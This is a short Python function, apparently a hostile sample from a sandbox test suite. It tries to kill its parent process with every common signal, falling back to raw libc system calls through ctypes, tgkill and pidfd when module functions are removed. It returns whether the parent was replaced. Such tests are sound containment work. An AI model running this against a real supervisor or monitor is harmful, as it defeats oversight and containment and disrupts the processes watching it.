# Kills its parent in every way, by system call where the module function is gone.
def attack():
    import ctypes
    import posix
    import signal

    libc = ctypes.CDLL(None)
    parent = posix.getppid()
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD, signal.SIGSTOP, signal.SIGKILL):
        for target in (parent, -parent):
            try:
                posix.kill(target, number)
            except OSError:
                pass
            libc.kill(target, int(number))
        libc.tgkill(parent, parent, int(number))
        try:
            signal.pidfd_send_signal(posix.pidfd_open(parent), number)
        except OSError:
            pass
    return posix.getppid() != parent
